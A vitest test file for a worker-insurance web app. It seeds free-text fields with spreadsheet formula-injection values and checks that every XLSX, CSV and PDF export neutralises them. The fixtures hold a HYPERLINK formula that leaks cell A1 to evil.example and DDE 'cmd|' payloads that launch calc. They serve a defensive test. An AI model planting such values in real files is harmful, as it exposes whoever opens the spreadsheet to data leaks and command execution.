/**
 * Issue 9, formula injection in every export: values beginning with = + - @ (and tab- or CR-prefixed
 * ones) are stored in every free-text field that reaches a file — hamlets, notes, payment and claim
 * references, funding-source names, budget lines and legal bases, hand-over names and places, award-round
 * names, official-denominator sources, rejected import cells — and then EVERY export is downloaded:
 * no XLSX cell and no CSV field may begin with one of those characters (a neutralised one begins with
 * an apostrophe), no XLSX cell may be a formula, and every PDF renders the same values as plain text.
 *
 * The list of exports is checked against the app: a GET route ending in .xlsx/.csv/.pdf, or taking a
 * `format` parameter, must be listed here.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectDelimiter } from '../../domains/imports/file-reader.ts';
import { claimKit, spouseHeir, type ClaimKit } from '../../test/claim-kit.ts';
import { makeWorker } from '../../test/factories.ts';
import { pdfText } from '../../test/pdf-text.ts';
import { testApp, type TestApp } from '../../test/test-app.ts';
import { upload } from '../../test/upload.ts';
import { NOW, VILLAGE_A } from './fixtures.ts';

/** What a spreadsheet would run: a cell beginning with one of these, not behind an apostrophe. */
const DANGEROUS = /^[=+\-@\t\r]/;
/** A planted value, wherever it landed in a cell (at its start it must have been neutralised). */
const PLANTED = /HYPERLINK|cmd\||1\+1|SUM\(/;

const F = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
  cmd: "+cmd|' /C calc'!A0",
  minus: '-1+1',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
};

let t: TestApp;
let admin: string;
let kit: ClaimKit;
const planted: Record<string, string> = {};

async function ok(method: 'GET' | 'POST' | 'PUT' | 'PATCH', url: string, payload?: unknown, cookie = admin): Promise<any> {
  const res = await t.app.inject({ method, url, headers: { cookie }, ...(payload === undefined ? {} : { payload: payload as object }) });
  if (res.statusCode >= 300) throw new Error(`${method} ${url} answered ${res.statusCode}: ${res.body}`);
  return res.statusCode === 204 ? null : res.json();
}

interface Export {
  /** The route as registered (GET). */
  route: string;
  url: () => string;
  kind: 'xlsx' | 'csv' | 'pdf';
  /** Tells apart several downloads of one route. */
  label?: string;
  /** A planted hostile value must show up in it (neutralised); false where no free text reaches the file. */
  carriesText: boolean;
  /** For a PDF: a planted value its text must show as it was typed. */
  pdfShows?: () => string;
}

const ids: Record<string, string> = {};

const EXPORTS: Export[] = [
  { route: '/api/imports/template', url: () => '/api/imports/template?format=xlsx', kind: 'xlsx', carriesText: false },
  { route: '/api/imports/template', url: () => '/api/imports/template?format=csv', kind: 'csv', carriesText: false },
  { route: '/api/imports/:id/rejected', url: () => `/api/imports/${ids.import}/rejected`, kind: 'csv', carriesText: true },
  { route: '/api/payments/export', url: () => '/api/payments/export?format=csv&from=2026-01&to=2026-12', kind: 'csv', carriesText: true },
  { route: '/api/payments/export', url: () => '/api/payments/export?format=xlsx&from=2026-01&to=2026-12', kind: 'xlsx', carriesText: true },
  ...(['csv', 'xlsx'] as const).flatMap((format) =>
    (['add', 'csr'] as const).map((source): Export => ({
      route: '/api/funding/sources/:id/registration',
      label: `${format} of the ${source.toUpperCase()} source`,
      url: () => `/api/funding/sources/${ids[source]}/registration?format=${format}&year=2026`,
      kind: format,
      carriesText: true,
    })),
  ),
  ...(['ending30', 'ending60', 'grace', 'lapsed', 'year_end', 'handover'] as const).flatMap((kind) =>
    (['csv', 'xlsx'] as const).map((format): Export => ({
      route: '/api/worklists/renewals',
      label: `${kind} as ${format}`,
      url: () => `/api/worklists/renewals?kind=${kind}&format=${format}&region=52.03`,
      kind: format,
      carriesText: true,
    })),
  ),
  { route: '/api/claims/totals.xlsx', url: () => '/api/claims/totals.xlsx?by=village', kind: 'xlsx', carriesText: true },
  { route: '/api/claims/handovers/:id/recipients.xlsx', url: () => `/api/claims/handovers/${ids.handover}/recipients.xlsx`, kind: 'xlsx', carriesText: true },
  {
    route: '/api/claims/handovers/:id/recipients.pdf',
    url: () => `/api/claims/handovers/${ids.handover}/recipients.pdf`,
    kind: 'pdf',
    carriesText: true,
    pdfShows: () => 'Pendopo',
  },
  { route: '/api/reports/leaderboard.xlsx', url: () => '/api/reports/leaderboard.xlsx?period=2026', kind: 'xlsx', carriesText: false },
  { route: '/api/reports/awards/:id/ranking.xlsx', url: () => `/api/reports/awards/${ids.award}/ranking.xlsx`, kind: 'xlsx', carriesText: true },
  {
    route: '/api/reports/awards/:id/certificates/:file',
    url: () => `/api/reports/awards/${ids.award}/certificates/${ids.winner}.pdf`,
    kind: 'pdf',
    carriesText: true,
    pdfShows: () => 'HYPERLINK',
  },
  { route: '/api/reports/paritrana.pdf', url: () => '/api/reports/paritrana.pdf?year=2026', kind: 'pdf', carriesText: true, pdfShows: () => 'Dana CSR' },
  { route: '/api/reports/paritrana.xlsx', url: () => '/api/reports/paritrana.xlsx?year=2026', kind: 'xlsx', carriesText: true },
];

/** Not spreadsheets: the database backup is gzip-compressed JSON lines for `jaring restore`, never opened in Excel. */
const NOT_SPREADSHEETS = new Set(['/api/admin/backup']);

beforeAll(async () => {
  t = await testApp({ now: NOW });
  admin = await t.loginAs('admin');
  kit = await claimKit(t, admin);

  // Funding: a regency CSR source and the village's ADD, with hostile names, budget lines and legal bases.
  const csr = await ok('POST', '/api/funding/sources', { kind: 'CSR', name: `${F.hyperlink} Dana CSR` });
  await ok('PUT', `/api/funding/sources/${csr.id}/budgets/2026`, { amount: 500_000_000, budgetLine: F.cmd, legalBasis: F.at });
  const add = await ok('POST', '/api/funding/sources', { kind: 'ADD', regionCode: VILLAGE_A, name: `${F.minus} Dana Desa` });
  await ok('PUT', `/api/funding/sources/${add.id}/budgets/2026`, { amount: 500_000_000, budgetLine: F.tab, legalBasis: F.cr });
  ids.add = add.id;
  ids.csr = csr.id;

  // Workers with hostile hamlets and notes (names cannot begin with these: the NAME rule), funded by both.
  const workers = [];
  for (const [hamlet, notes] of [
    [F.hyperlink.slice(0, 60), F.cmd],
    [F.minus, F.at],
    [F.at.slice(0, 60), F.hyperlink],
    [F.cmd, F.minus],
  ]) {
    workers.push(await ok('POST', '/api/workers', makeWorker({ villageCode: VILLAGE_A, hamlet, notes })));
  }
  await ok('POST', '/api/funding/commitments', { sourceId: add.id, workerIds: [workers[0].id, workers[1].id], fromMonth: '2026-11', toMonth: '2026-12' });
  await ok('POST', '/api/funding/commitments', { sourceId: csr.id, workerIds: [workers[2].id], fromMonth: '2026-12', toMonth: '2026-12', handoverToSelf: true });
  for (const [i, reference, note] of [
    [0, F.hyperlink, F.cmd],
    [1, F.at, F.tab],
  ] as const) {
    await ok('POST', '/api/payments', {
      sourceId: add.id,
      workerIds: [workers[i].id],
      fromMonth: '2026-11',
      toMonth: '2026-12',
      amount: 32_000,
      acceptDifference: true,
      paidOn: '2026-11-20',
      reference,
      note,
    });
  }
  // A self-paid worker whose protection ends with the month, and ADD-paid ones whose protection ended
  // months ago: every renewal worklist has someone to list, with the source's hostile name.
  await kit.insure(workers[3].id, '2026-01', '2026-11');
  for (const month of ['2026-04', '2026-08', '2026-10', '2026-11']) {
    const worker = await ok('POST', '/api/workers', makeWorker({ villageCode: VILLAGE_A, hamlet: F.at.slice(0, 60) }));
    await ok('POST', '/api/funding/commitments', { sourceId: add.id, workerIds: [worker.id], fromMonth: month, toMonth: month });
    await ok('POST', '/api/payments', { sourceId: add.id, workerIds: [worker.id], fromMonth: month, toMonth: month, amount: 16_000, acceptDifference: true, paidOn: `${month}-05` });
  }

  // Claims: a death paid with hostile references, planned for a hand-over with a hostile name and place.
  const claimWorker = await kit.worker(VILLAGE_A, { hamlet: F.minus });
  await kit.insure(claimWorker.id, '2026-01', '2026-12');
  const reported = await kit.report(admin, claimWorker.id, {
    heirs: [spouseHeir({ name: 'Baiq Ñandú محمد 𝕁𝕒𝕣𝕚𝕟𝕘' })],
    place: `${F.cmd} Sawah`,
    description: `${F.hyperlink} uraian`,
  });
  expect(reported.statusCode, reported.body).toBe(201);
  const claim = reported.json();
  await kit.receive(admin, claim.id, claim.missing.map((d: { code: string }) => d.code));
  for (const action of ['submit', 'approve'] as const) await ok('POST', `/api/claims/${claim.id}/${action}`, { on: '2026-11-20', note: F.at });
  const heirId = claim.heirs[0].id;
  for (const [kind, amount, reference] of [
    ['lump_sum', 20_000_000, F.hyperlink],
    ['periodic', 12_000_000, F.cmd],
    ['funeral', 10_000_000, F.minus],
  ] as const) {
    await ok('POST', `/api/claims/${claim.id}/payments`, { kind, amount, paidOn: '2026-11-21', reference, heirId, note: F.at });
  }
  const handover = await ok('POST', '/api/claims/handovers', { name: `${F.cmd} Penyerahan 🎉`, heldOn: '2026-11-30', place: `${F.minus} Pendopo \u202Ekiri\u202C`, note: F.at, claimIds: [claim.id] });
  ids.handover = handover.id;

  // Coverage figures with hostile notes and sources; an award round with a hostile name.
  await ok('PUT', '/api/coverage/targets/52.03/2026', { percent: 40, note: F.at });
  await ok('PUT', '/api/coverage/denominators/52.03/2026', { value: 50_000, source: `${F.hyperlink} BPS` });
  await ok('PUT', '/api/coverage/denominators/52.03.01/2026', { value: 5_000, source: F.cmd });
  const award = await ok('POST', '/api/awards/rounds', { name: `${F.hyperlink} Paritrana`, period: '2026', criteria: { coverage: 50, growth: 30, covered: 20 }, winners: 3 });
  ids.award = award.id;
  ids.winner = award.entries.find((e: { isWinner: boolean }) => e.isWinner).code;

  // Rates and a census round with hostile wording (none is exported today; planted for when one is).
  await ok('POST', '/api/premiums/rates', { program: 'JKK', percent: 0.24, validFrom: '2060-01', regulation: F.hyperlink, note: F.cmd });
  await ok('POST', '/api/census/rounds', { name: `${F.minus} Sensus`, startsOn: '2026-12-01', endsOn: '2026-12-31', targetGroups: ['fisher'], villages: [{ villageCode: VILLAGE_A }] });

  // An import with rejected rows whose cells are formulas.
  const csv = ['NIK;Nama Lengkap;Kode Desa;Pekerjaan;Dusun;Catatan', ...Object.values(F).map((f) => `${f.replace(/[\r\t]/g, '')};Lalu Uji;${VILLAGE_A};Buruh Tani;${f.trim()};${f.trim()}`)].join('\r\n');
  const res = await upload(t.app, '/api/imports/workers', { cookie: admin, fileName: 'formula.csv', content: csv });
  expect(res.statusCode, res.body).toBe(202);
  await t.app.imports.idle();
  ids.import = res.json().id;
  Object.assign(planted, F);
});
afterAll(() => t?.close());

/** Every text of a workbook, with where it is; fails on a formula cell. */
async function xlsxTexts(body: Buffer): Promise<{ where: string; text: string }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
  const texts: { where: string; text: string }[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        const where = `${sheet.name}!${cell.address}`;
        const value = cell.value as unknown;
        if (typeof value === 'object' && value !== null && ('formula' in value || 'sharedFormula' in value)) throw new Error(`formula cell at ${where}: ${JSON.stringify(value)}`);
        if (typeof value === 'string') texts.push({ where, text: value });
        else if (typeof value === 'object' && value !== null && 'richText' in value) texts.push({ where, text: (value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join('') });
        else if (typeof value === 'object' && value !== null && 'text' in value) texts.push({ where, text: String((value as { text: unknown }).text) });
      });
    });
  });
  return texts;
}

function csvTexts(body: string): { where: string; text: string }[] {
  const text = body.replace(/^\uFEFF/, '');
  const rows = parseCsv(text, { delimiter: detectDelimiter(text), relax_column_count: true }) as string[][];
  return rows.flatMap((row, r) => row.map((field, c) => ({ where: `row ${r + 1} column ${c + 1}`, text: field })));
}

describe('the list of exports', () => {
  it('names every file route of the app', () => {
    const spec = t.app.swagger() as { paths: Record<string, Record<string, { parameters?: { in: string; name: string }[] }>> };
    const fileRoutes = Object.entries(spec.paths)
      .filter(([path, ops]) => ops.get && (/\.(xlsx|csv|pdf)$/.test(path) || /\{file\}$/.test(path) || ops.get.parameters?.some((p) => p.in === 'query' && p.name === 'format')))
      .map(([path]) => path.replace(/\{(\w+)\}/g, ':$1'));
    const listed = new Set(EXPORTS.map((e) => e.route));
    expect(fileRoutes.filter((r) => !listed.has(r) && !NOT_SPREADSHEETS.has(r)), 'file routes this test does not download').toEqual([]);
    expect([...listed].filter((r) => !fileRoutes.includes(r) && r !== '/api/imports/:id/rejected'), 'listed routes the app no longer has').toEqual([]);
  });
});

describe('every export neutralises = + - @ tab and CR at the start of a text', () => {
  for (const e of EXPORTS) {
    it(`${e.route} ${e.label ?? e.kind}`, async () => {
      const res: LightMyRequestResponse = await t.app.inject({ method: 'GET', url: e.url(), headers: { cookie: admin } });
      expect(res.statusCode, `${e.url()}: ${res.body.slice(0, 300)}`).toBe(200);
      if (e.kind === 'pdf') {
        expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
        if (e.pdfShows) expect(pdfText(res.rawPayload)).toContain(e.pdfShows());
        return;
      }
      const texts = e.kind === 'xlsx' ? await xlsxTexts(res.rawPayload) : csvTexts(res.body);
      const dangerous = texts.filter(({ text }) => DANGEROUS.test(text));
      expect(dangerous.map(({ where, text }) => `${where}: ${JSON.stringify(text)}`), `cells a spreadsheet would run, in ${e.url()}`).toEqual([]);
      if (e.carriesText) expect(texts.some(({ text }) => PLANTED.test(text)), `no planted value reached ${e.url()}`).toBe(true);
    });
  }
});
